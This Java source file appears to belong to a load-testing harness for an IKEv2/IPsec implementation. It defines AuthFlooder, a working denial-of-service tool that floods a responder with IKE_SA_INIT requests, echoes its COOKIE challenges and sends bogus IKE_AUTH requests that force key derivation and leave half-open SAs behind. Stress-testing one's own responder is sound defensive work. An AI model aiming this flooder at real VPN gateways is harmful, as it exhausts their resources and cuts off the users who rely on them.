package org.bgpipsec.perf.load;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicLong;
import org.bgpipsec.ike.message.EncryptedPayload;
import org.bgpipsec.ike.message.ExchangeType;
import org.bgpipsec.ike.message.IkeDecodeException;
import org.bgpipsec.ike.message.IkeHeader;
import org.bgpipsec.ike.message.IkeMessage;
import org.bgpipsec.ike.message.IkeMessageCodec;
import org.bgpipsec.ike.message.NotifyPayload;
import org.bgpipsec.ike.message.NotifyType;
import org.bgpipsec.ike.message.Octets;
import org.bgpipsec.ike.message.Payload;
import org.bgpipsec.ike.message.PayloadType;

/**
 * An attacker that can receive at the addresses it uses (so cookies do not stop it): it starts
 * IKE_SA_INIT exchanges at a fixed rate, returns every COOKIE it is sent (RFC 7296 2.6), and
 * answers every IKE_SA_INIT response with a bogus IKE_AUTH request (the responder's SPI, message ID
 * 1, an SK payload of random octets) that the responder can only reject after deriving the keys and
 * checking the integrity of the SK payload. Each such exchange costs the responder a key exchange
 * and leaves a half-open IKE SA behind until it expires.
 */
final class AuthFlooder implements Attack {
  private static final int SK_BODY = 256;

  private final List<DatagramChannel> sockets = new ArrayList<>();
  private final InetSocketAddress target;
  private final IkeMessage template;
  private final double rate;
  private final Selector selector;
  private final AtomicLong sent = new AtomicLong();
  private final AtomicLong cookiesReturned = new AtomicLong();
  private final AtomicLong authsSent = new AtomicLong();
  private volatile boolean running;
  private Thread thread;

  AuthFlooder(List<InetAddress> sources, InetSocketAddress target, byte[] template, double rate)
      throws IOException {
    this.target = target;
    try {
      this.template =
          IkeMessageCodec.decode(
              ByteBuffer.wrap(
                  template,
                  InitRequestTemplate.SPI_OFFSET,
                  template.length - InitRequestTemplate.SPI_OFFSET));
    } catch (IkeDecodeException e) {
      throw new IllegalArgumentException("template is no IKE message", e);
    }
    this.rate = rate;
    this.selector = Selector.open();
    for (InetAddress a : sources) {
      DatagramChannel c = DatagramChannel.open();
      c.configureBlocking(false);
      c.bind(new InetSocketAddress(a, 0));
      c.register(selector, SelectionKey.OP_READ);
      sockets.add(c);
    }
  }

  @Override
  public void start() {
    if (rate <= 0) {
      return;
    }
    running = true;
    thread = Thread.ofPlatform().name("perf-auth-flooder").daemon().start(this::loop);
  }

  private void loop() {
    RatePacer pacer = new RatePacer(rate, System::nanoTime);
    SplittableRandom random = new SplittableRandom();
    ByteBuffer in = ByteBuffer.allocate(65536);
    int next = 0;
    try {
      while (running) {
        long due = pacer.dueNow();
        for (long i = 0; i < due && running; i++) {
          DatagramChannel c = sockets.get(next);
          next = (next + 1) % sockets.size();
          send(c, init(random.nextLong() | 1, null));
          sent.incrementAndGet();
        }
        pacer.issued(due);
        selector.select(1);
        for (SelectionKey k : selector.selectedKeys()) {
          DatagramChannel c = (DatagramChannel) k.channel();
          in.clear();
          while (c.receive(in) != null) {
            in.flip();
            answer(c, in, random);
            in.clear();
          }
        }
        selector.selectedKeys().clear();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Handles one datagram from the responder: non-ESP marker, then an IKE message. */
  private void answer(DatagramChannel c, ByteBuffer datagram, SplittableRandom random)
      throws IOException {
    if (datagram.remaining() < 4 + IkeHeader.LENGTH || datagram.getInt(0) != 0) {
      return;
    }
    datagram.position(4);
    IkeMessage m;
    try {
      m = IkeMessageCodec.decode(datagram.slice());
    } catch (IkeDecodeException e) {
      return;
    }
    IkeHeader h = m.header();
    if (!h.response() || h.exchangeType() != ExchangeType.IKE_SA_INIT.code()) {
      return;
    }
    Optional<NotifyPayload> cookie =
        m.all(NotifyPayload.class).stream()
            .filter(n -> n.notifyType() == NotifyType.COOKIE.code())
            .findFirst();
    if (cookie.isPresent()) {
      send(c, init(h.initiatorSpi(), cookie.get().data()));
      cookiesReturned.incrementAndGet();
    } else if (h.responderSpi() != 0) {
      byte[] body = new byte[SK_BODY];
      for (int i = 0; i < body.length; i++) {
        body[i] = (byte) random.nextInt();
      }
      IkeMessage auth =
          new IkeMessage(
              new IkeHeader(
                  h.initiatorSpi(),
                  h.responderSpi(),
                  2,
                  0,
                  ExchangeType.IKE_AUTH.code(),
                  true,
                  false,
                  false,
                  1),
              List.of(
                  new EncryptedPayload(
                      PayloadType.IDENTIFICATION_INITIATOR.code(), Octets.of(body))));
      send(c, IkeMessageCodec.encode(auth));
      authsSent.incrementAndGet();
    }
  }

  /** The template's IKE_SA_INIT request with SPIi {@code spi}, with {@code cookie} first if any. */
  private byte[] init(long spi, Octets cookie) {
    IkeHeader t = template.header();
    List<Payload> payloads = new ArrayList<>();
    if (cookie != null) {
      payloads.add(NotifyPayload.of(NotifyType.COOKIE, cookie));
    }
    template.payloads().stream()
        .filter(p -> !(p instanceof NotifyPayload n && n.notifyType() == NotifyType.COOKIE.code()))
        .forEach(payloads::add);
    return IkeMessageCodec.encode(
        new IkeMessage(
            new IkeHeader(
                spi,
                0,
                t.majorVersion(),
                t.minorVersion(),
                t.exchangeType(),
                true,
                false,
                false,
                0),
            payloads));
  }

  /** Sends an IKE message to the responder's NAT-traversal port, behind the non-ESP marker. */
  private void send(DatagramChannel c, byte[] message) throws IOException {
    ByteBuffer b = ByteBuffer.allocate(4 + message.length);
    b.putInt(0).put(message).flip();
    c.send(b, target);
  }

  @Override
  public long sent() {
    return sent.get();
  }

  /** COOKIEs returned so far. */
  long cookiesReturned() {
    return cookiesReturned.get();
  }

  /** Bogus IKE_AUTH requests sent so far. */
  long authsSent() {
    return authsSent.get();
  }

  @Override
  public void stop() throws InterruptedException {
    running = false;
    if (thread != null) {
      thread.join();
    }
  }

  @Override
  public void close() throws IOException, InterruptedException {
    stop();
    for (DatagramChannel c : sockets) {
      c.close();
    }
    selector.close();
  }
}
